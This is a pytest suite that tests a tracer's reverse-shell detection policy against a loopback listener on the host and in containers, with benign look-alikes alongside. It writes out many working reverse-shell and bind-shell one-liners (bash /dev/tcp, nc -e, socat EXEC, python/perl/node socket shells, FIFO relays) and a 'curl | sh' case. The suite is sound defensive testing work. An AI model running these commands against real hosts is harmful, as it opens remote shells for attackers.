# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""Real reverse shells against a loopback listener, on the host and in test
containers (own pid/mount/net namespaces, the listener inside the
container's network namespace), and benign look-alikes, all under one
`tracer -P reverse-shell`.  An attack is detected when a reverse-shell
event names the listener's port (the socket argument's dport, or the
relay tool's arguments); a benign case is flagged when one does.

Every case must prove it ran before its result counts: the listener
records the connection it accepted (and what it received or, for HTTP, the
request it answered), and a benign client must exit 0. A quiet tracer is
otherwise indistinguishable from a client that never connected; a case
that did not run fails as CaseDidNotRun, which no xfail absorbs.

Prints a summary table (attack, where, detected; benign, flagged) and the
totals.  Known misses and known false positives are xfail(strict=True)
with the reason and the kernel/engine feature that would change them: if
one starts passing, the suite says so.
"""
import json
import os
import random
import shlex
import subprocess
import shutil
import tempfile

import pytest

from conftest import Tracer, in_container

PY = "/usr/bin/python3"

# name -> (command with {h} host and {p} port, xfail reason or None)
ATTACKS = {
    "bash -i >& /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'", None),
    "bash /dev/tcp, IPv6": ("bash -c 'bash -i >& /dev/tcp/{h6}/{p} 0>&1'", None),
    "bash fd 5 + sh (dash) <&5 >&5": ("bash -c 'exec 5<>/dev/tcp/{h}/{p}; sh -i <&5 >&5 2>&5'", None),
    "bash opens fd 3, dash redirects it": (
        "bash -c 'exec 3<>/dev/tcp/{h}/{p}; dash -c \"dash -i <&3 >&3 2>&3\"'", None),
    "bash read loop (while read; $l >&5)": (
        "bash -c 'exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read l; do $l 2>&5 >&5; done'", None),
    "nc -e /bin/sh": ("nc.traditional -e /bin/sh {h} {p}", None),
    "nc -c sh": ("nc.traditional -c sh {h} {p}", None),
    "busybox nc -e sh": ("busybox nc {h} {p} -e /bin/sh", None),
    "python dup2 + subprocess": (
        PY + " -c 'import socket,subprocess,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]; subprocess.call([\"/bin/sh\",\"-i\"])'", None),
    "python dup2 + pty.spawn": (
        PY + " -c 'import socket,pty,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn(\"/bin/bash\")'", None),
    "python Popen(stdin=sock)": (
        PY + " -c 'import socket,subprocess; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "subprocess.call([\"/bin/sh\",\"-i\"], stdin=s, stdout=s, stderr=s)'", None),
    "python fcntl(F_DUPFD) onto 0-2": (
        PY + " -c 'import socket,os,fcntl; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "[os.close(f) for f in (0,1,2)]; [fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0) for f in (0,1,2)]; "
        "os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'", None),
    "perl open(STDIN, \">&S\")": (
        "perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");"
        "open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};'", None),
    "socat TCP EXEC:/bin/sh": ("socat TCP:{h}:{p} EXEC:/bin/sh", None),
    "socat EXEC:bash,pty,stderr,setsid": ("socat TCP:{h}:{p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane", None),
    "perl close(0-2) + POSIX::dup(sock)": (
        "perl -MPOSIX -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);"
        "connect(S,sockaddr_in({p},inet_aton(\"{h}\"))) or die;"
        "POSIX::close($_) for 0..2; POSIX::dup(fileno(S)) for 0..2; exec(\"/bin/sh\",\"-i\")'",
        None),  # the sys_dup rule: matchReturnArgs InRange 0:2
    "mkfifo relay (sh -i <f | nc >f)": (
        "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | nc.traditional -q 1 {h} {p} > f); rm -rf $PWD",
        None),  # the relay rule: nc connects last, its fds hold the pipe and the FIFO
    "nc | sh | nc relay (two pipes)": (
        "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | nc.traditional -q 1 {h} {p} >/dev/null",
        None),
    # the input relay and the shell are gone before the output relay connects
    "nc | sh | nc relay, output relay late": (
        "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | "
        "(sleep 3; nc.traditional -q 1 {h} {p} >/dev/null)", None),
    "node spawn(sh) piped to net.Socket": (
        "node -e 'const s=require(\"net\").connect({p},\"{h}\"),c=require(\"child_process\")"
        ".spawn(\"/bin/sh\");s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on(\"exit\","
        "()=>s.destroy())'", None),  # libuv: socketpairs, and the connect after the spawn
    "openssl s_client FIFO relay (TLS)": (
        "cd $(mktemp -d) && mkfifo f && (sh -i < f 2>&1 | openssl s_client -quiet -connect {h}:{p} "
        "> f 2>/dev/null); rm -rf $PWD", None),
    "python Popen(PIPE) relay after connect": (
        PY + " -c 'import socket,subprocess,threading\n"
        "s=socket.create_connection((\"{h}\",{p}))\n"
        "c=subprocess.Popen([\"/bin/sh\",\"-i\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,"
        "stderr=subprocess.STDOUT)\n"
        "def up():\n while (d:=s.recv(4096)): c.stdin.write(d); c.stdin.flush()\n c.stdin.close()\n"
        "threading.Thread(target=up,daemon=True).start()\n"
        "while (d:=c.stdout.read1(4096)): s.sendall(d)'", None),  # the exec scans the connected parent
    "bash -i >& /dev/udp (UDP)": ("bash -c 'bash -i >& /dev/udp/{h}/{p} 0>&1'", None),
    "perl IO::Socket, system $_ while <>": (
        "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");"
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "fdopen aliases perl's STDIN/STDOUT handles to the socket's own fd (no dup onto 0-2), "
        "so no process ever has the socket on fd 0-2: needs tracking of an interpreter that "
        "reads commands from a connected socket it holds on a high fd"),
}

BENIGN = {
    "pipeline into nc (echo | nc)": ("echo hello | nc.traditional -q 1 {h} {p}", None),
    "nc sending a file (nc < file)": ("nc.traditional -q 1 {h} {p} < /etc/hostname", None),
    "curl download (http.server)": ("curl -s -m 5 -o /dev/null http://{h}:{p}/", None),
    "wget download (http.server)": ("wget -q -T 5 -O /dev/null http://{h}:{p}/", None),
    "socat TCP to STDOUT | wc": ("socat -u TCP:{h}:{p} STDOUT | wc -c", None),
    "python socket reader into a file": (
        PY + " -c 'import socket; s=socket.create_connection((\"{h}\",{p})); "
        "s.sendall(b\"x\"); d=s.recv(99); open(\"/dev/null\",\"wb\").write(d)'", None),
    "bash /dev/tcp read into cat (cat </dev/tcp)": ("bash -c 'cat < /dev/tcp/{h}/{p} > /dev/null'", None),
    "inetd-style server: accepted socket on cat's stdio": (
        PY + " -c 'import socket,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
        "pid=os.fork()\nif pid==0:\n [os.dup2(s.fileno(),f) for f in (0,1)]; os.execv(\"/usr/bin/cat\",[\"cat\"])\n"
        "os.waitpid(pid,0)'", None),
    "curl download piped into sh (curl | sh)": ("curl -s -m 5 http://{h}:{p}/x.sh | sh", None),
    "client piping received bytes into tr": (
        "nc.traditional -q 1 {h} {p} </dev/null | tr a-z A-Z >/dev/null", None),
    # one direction of a relay only: not a reverse shell
    "network into a shell, output local (nc | sh)": (
        "nc.traditional -q 1 {h} {p} </dev/null | sh >/dev/null 2>&1", None),
    "shell output into nc, input local (sh | nc)": (
        "echo id | sh 2>&1 | nc.traditional -q 1 {h} {p}", None),
}

# relay attacks: the process expected to relay the shell's stdin (its
# binary's basename), named by the event's input_relay arguments
RELAYS = {
    "mkfifo relay (sh -i <f | nc >f)": "nc.traditional",
    "nc | sh | nc relay (two pipes)": "nc.traditional",
    "nc | sh | nc relay, output relay late": "nc.traditional",
    "node spawn(sh) piped to net.Socket": "node",
    "openssl s_client FIFO relay (TLS)": "openssl",
    "python Popen(PIPE) relay after connect": "python3",
}

HTTP_CASES = {"curl download (http.server)", "wget download (http.server)",
              "curl download piped into sh (curl | sh)"}
UDP_CASES = {"bash -i >& /dev/udp (UDP)"}
TLS_CASES = {"openssl s_client FIFO relay (TLS)"}
# benign clients that send: the listener must have received their bytes
SENDERS = {"pipeline into nc (echo | nc)", "nc sending a file (nc < file)",
           "python socket reader into a file", "inetd-style server: accepted socket on cat's stdio",
           "shell output into nc, input local (sh | nc)"}


class CaseDidNotRun(Exception):
    """The case's client never connected, or a benign client failed: its
    "no event" (or a known miss) means nothing. Not an AssertionError, so
    an xfail(raises=AssertionError) does not absorb it."""


# argv: host port dir [cert key]. Creates dir/ready once listening, appends
# to dir/record what happened: "accepted" (after the TLS handshake when a
# certificate is given), then "received N".
LISTENER = r'''
import os, socket, ssl, sys, time
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
rec = open(os.path.join(sys.argv[3], "record"), "a", buffering=1)
s = socket.socket(fam); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(2); s.settimeout(12)
open(os.path.join(sys.argv[3], "ready"), "w").close()
n = 0
try:
    c, _ = s.accept(); c.settimeout(3)
    if len(sys.argv) > 5:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[4], sys.argv[5])
        c = ctx.wrap_socket(c, server_side=True)
    rec.write("accepted\n")
    c.sendall(b"id\nexit\n")
    t0 = time.time()
    while time.time() - t0 < 4:
        d = c.recv(4096)
        if not d:
            break
        n += len(d)
except OSError:
    pass
rec.write(f"received {n}\n")
'''

# The same contract for UDP: the first datagram is the "connection".
UDP_LISTENER = r'''
import os, socket, sys, time
rec = open(os.path.join(sys.argv[3], "record"), "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], int(sys.argv[2]))); s.settimeout(12)
open(os.path.join(sys.argv[3], "ready"), "w").close()
n = 0
try:
    d, peer = s.recvfrom(4096)
    rec.write("accepted\n")
    n += len(d)
    s.sendto(b"id\nexit\n", peer)
    s.settimeout(1)
    while True:
        n += len(s.recv(4096))
except OSError:
    pass
rec.write(f"received {n}\n")
'''

# The same contract for HTTP, with http.server answering one request and
# logging it ('"GET / HTTP/1.1" 200') to the record.
HTTP_LISTENER = r'''
import http.server, os, sys
d = sys.argv[3]
class H(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=d, **k)
    def log_message(self, fmt, *args):
        with open(os.path.join(d, "record"), "a") as f:
            f.write("accepted\nhttp " + (fmt % args) + "\n")
srv = http.server.HTTPServer((sys.argv[1], int(sys.argv[2])), H)
srv.timeout = 12
open(os.path.join(d, "ready"), "w").close()
srv.handle_request()
'''

WORK = tempfile.mkdtemp(prefix="tracer-revshell-")

_used = set()


def port():
    while True:
        p = random.randint(20000, 60000)
        if p not in _used:
            _used.add(p)
            return p


def cases():
    out = []
    for where in ("host", "container"):
        for name, (cmd, why) in ATTACKS.items():
            out.append(("attack", name, where, cmd, why))
        for name, (cmd, why) in BENIGN.items():
            out.append(("benign", name, where, cmd, why))
    return out


def tls_cert():
    """A self-signed certificate for the TLS listener, made once."""
    crt, key = os.path.join(WORK, "tls.crt"), os.path.join(WORK, "tls.key")
    if not os.path.exists(crt):
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                        "-nodes", "-subj", "/CN=localhost", "-days", "1", "-keyout", key, "-out", crt],
                       check=True, capture_output=True)
    return crt, key


def server_cmd(name, h, p, d):
    code = HTTP_LISTENER if name in HTTP_CASES else UDP_LISTENER if name in UDP_CASES else LISTENER
    extra = " ".join(tls_cert()) if name in TLS_CASES else ""
    return f"{PY} -c {shlex.quote(code)} {h} {p} {d} {extra} >/dev/null 2>&1"


def run_case(kind, name, where, cmd, h="127.0.0.1", h6="::1"):
    """Starts the listener, waits until it listens (its ready file), runs
    the client, waits for the listener to finish. Returns the port and what
    happened: the listener's record, the client's exit status (None: it
    never finished)."""
    p = port()
    d = tempfile.mkdtemp(dir=WORK)
    with open(os.path.join(d, "x.sh"), "w") as f:  # what curl | sh runs
        f.write("echo hello >/dev/null\n")
    host = h6 if "IPv6" in name else h
    client = cmd.format(h=h, h6=h6, p=p)
    srv = server_cmd(name, host, p, d)
    wait_ready = (f"i=0; while [ ! -e {d}/ready ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; "
                  f"[ -e {d}/ready ] || exit 0; ")
    # the client's exit status, and the listener given time to finish
    script = (f"({srv}) & {wait_ready}"
              f"timeout 10 sh -c {shlex.quote(client)}; echo $? > {d}/rc; "
              f"i=0; while kill -0 $! 2>/dev/null && [ $i -lt 160 ]; do sleep 0.05; i=$((i+1)); done; "
              f"kill $! 2>/dev/null; wait")
    try:
        if where == "host":
            subprocess.run(["sh", "-c", script], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=30, start_new_session=True)
        else:
            in_container(script, timeout=30)
    except subprocess.TimeoutExpired:
        pass  # recorded: no rc file
    out = {"port": p, "ready": os.path.exists(f"{d}/ready"), "rc": None, "record": ""}
    if os.path.exists(f"{d}/rc"):
        out["rc"] = int(open(f"{d}/rc").read().strip() or -1)
    if os.path.exists(f"{d}/record"):
        out["record"] = open(f"{d}/record").read()
    return out


def proof(kind, name, how):
    """Raises CaseDidNotRun unless the case demonstrably happened."""
    if not how["ready"]:
        raise CaseDidNotRun(f"{name}: the listener never listened")
    if "accepted" not in how["record"]:
        raise CaseDidNotRun(f"{name}: the listener saw no connection (client exit {how['rc']})")
    if kind != "benign":
        return
    if how["rc"] != 0:
        raise CaseDidNotRun(f"{name}: the benign client exited {how['rc']}")
    if name in HTTP_CASES and not ('"GET /' in how["record"] and '" 200' in how["record"]):
        raise CaseDidNotRun(f"{name}: no GET answered: {how['record']!r}")
    if name in SENDERS and "received 0" in how["record"]:
        raise CaseDidNotRun(f"{name}: the listener received nothing: {how['record']!r}")


def named(ev, p):
    """A reverse-shell event that names port p."""
    b = ev.get("process_kprobe")
    if not b or b.get("policy_name") != "reverse-shell":
        return False
    for a in b.get("args", []):
        if isinstance(a, dict) and a.get("sock_arg", {}).get("dport") == p:
            return True
    if "execve" in b.get("function_name", ""):
        return str(p) in b.get("process", {}).get("arguments", "")
    return False


@pytest.fixture(scope="module")
def campaign():
    runs = {}
    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
        for kind, name, where, cmd, why in cases():
            runs[(kind, name, where)] = run_case(kind, name, where, cmd)
    shutil.rmtree(WORK, ignore_errors=True)
    evs = tr.events()
    execs = {}
    for e in evs:
        p = e.get("process_exec", {}).get("process")
        if p:
            execs.setdefault(p["pid"], set()).add(os.path.basename(p.get("binary", "")))
    res = {}
    for key, how in runs.items():
        res[key] = {"events": [e for e in evs if named(e, how["port"])], "how": how, "execs": execs}
    return res


def relay_checks(name, evs, execs):
    """A relay attack's event is the relay rule's, names the relaying
    process (its pid exec'd the expected binary) and its remote port."""
    want = RELAYS[name]
    rel = [e["process_kprobe"] for e in evs if e["process_kprobe"].get("function_name") == "pipe_relay"]
    assert rel, f"{name}: no relay event"
    args = {a.get("label"): a for a in rel[0]["args"]}
    assert args["input_relay"].get("string_arg", "").startswith(want[:15]), args["input_relay"]
    for side in ("input", "output"):
        pid = args[f"{side}_relay_pid"]["int_arg"]
        ran = execs.get(pid, set())
        assert any(b.startswith(want) for b in ran), f"{name}: {side} relay pid {pid} ran {ran}"
    assert os.path.basename(rel[0]["process"]["binary"]) in ("dash", "sh", "bash"), rel[0]["process"]


def params():
    out = []
    for kind, name, where, cmd, why in cases():
        marks = [pytest.mark.xfail(reason=why, strict=True, raises=AssertionError)] if why else []
        out.append(pytest.param(kind, name, where, marks=marks, id=f"{kind}:{where}:{name}"))
    return out


@pytest.mark.parametrize("kind,name,where", params())
def test_case(campaign, kind, name, where):
    evs = campaign[(kind, name, where)]["events"]
    proof(kind, name, campaign[(kind, name, where)]["how"])
    if kind == "attack":
        assert evs, f"{name} on the {where} not detected"
        scopes = {e["process_kprobe"]["process"]["ns"]["pid"].get("is_host", False) for e in evs}
        assert (where == "host") in scopes, f"events carry is_host={scopes} for the {where}"
        if name in RELAYS:
            relay_checks(name, evs, campaign[(kind, name, where)]["execs"])
    else:
        assert not evs, f"{name} on the {where} flagged: " + json.dumps(evs[0])[:300]


# argv: host port. Connects to a bind shell (retrying until it listens),
# runs id, prints what came back.
BIND_CLIENT = r'''
import socket, sys, time
for i in range(100):
    try:
        c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); break
    except OSError:
        time.sleep(0.05)
c.sendall(b"id\nexit\n"); out = b""
try:
    while (d := c.recv(4096)):
        out += d
except OSError:
    pass
print(out.decode(errors="replace"))
'''


@pytest.mark.parametrize("where", ["host", "container"])
def test_bind_shell(where):
    """A listener handing a shell to whoever connects (nc -l -e /bin/sh) is a
    bind shell, with its own message naming the listening port; the
    client proves the shell ran (id's output came back)."""
    p = port()
    script = (f"timeout 10 nc.traditional -l -s 127.0.0.1 -p {p} -e /bin/sh & "
              f"{PY} -c {shlex.quote(BIND_CLIENT)} 127.0.0.1 {p}; wait")
    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
        if where == "host":
            out = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=30).stdout
        else:
            out = in_container(script).stdout.decode(errors="replace")
    if "uid=" not in out:
        raise CaseDidNotRun(f"bind shell on the {where}: no id output came back: {out!r}")
    evs = [e["process_kprobe"] for e in tr.events() if e.get("process_kprobe", {}).get("function_name") == "bind_shell"]
    mine = [b for b in evs if b["args"][0]["sock_arg"].get("sport") == p]
    assert mine, f"bind shell on the {where} not reported: {evs[:1]}"
    assert mine[0]["message"].startswith("shell started on an accepted network socket")
    assert mine[0]["process"]["ns"]["pid"].get("is_host", False) == (where == "host")


def table(campaign):
    rows = []
    det = att = fp = ben = 0
    for kind, name, where, cmd, why in cases():
        hit = bool(campaign[(kind, name, where)]["events"])
        note = ""
        if why:
            note = "known miss" if kind == "attack" else "known FP"
        if kind == "attack":
            att += 1
            det += hit
            rows.append(("attack", name, where, "yes" if hit else "no", note))
        else:
            ben += 1
            fp += hit
            rows.append(("benign", name, where, "yes" if hit else "no", note))
    return rows, det, att, fp, ben


def render(rows, det, att, fp, ben):
    """A Markdown table (pipes in technique names escaped) and the totals."""
    rows = [(k, n.replace("|", "\\|"), where, y, note) for k, n, where, y, note in rows]
    w = max(len(r[1]) for r in rows)
    lines = [f"| {'case':<6} | {'technique':<{w}} | {'where':<9} | detected/flagged | note       |",
             f"|{'-' * 8}|{'-' * (w + 2)}|{'-' * 11}|------------------|------------|"]
    for k, n, where, y, note in rows:
        lines.append(f"| {k:<6} | {n:<{w}} | {where:<9} | {y:<16} | {note:<10} |")
    lines.append("")
    lines.append(f"detections {det}/{att}, false positives {fp}/{ben}")
    return "\n".join(lines)


def test_summary(campaign, capsys):
    rows, det, att, fp, ben = table(campaign)
    with capsys.disabled():
        print("\n\nReverse-shell detection (tracer -P reverse-shell)\n")
        print(render(rows, det, att, fp, ben))
        print()
    # everything not marked as a known miss / known FP behaves as expected
    expected_det = sum(1 for k, n, w, c, why in cases() if k == "attack" and not why)
    expected_fp = sum(1 for k, n, w, c, why in cases() if k == "benign" and why)
    assert det >= expected_det and fp <= expected_fp
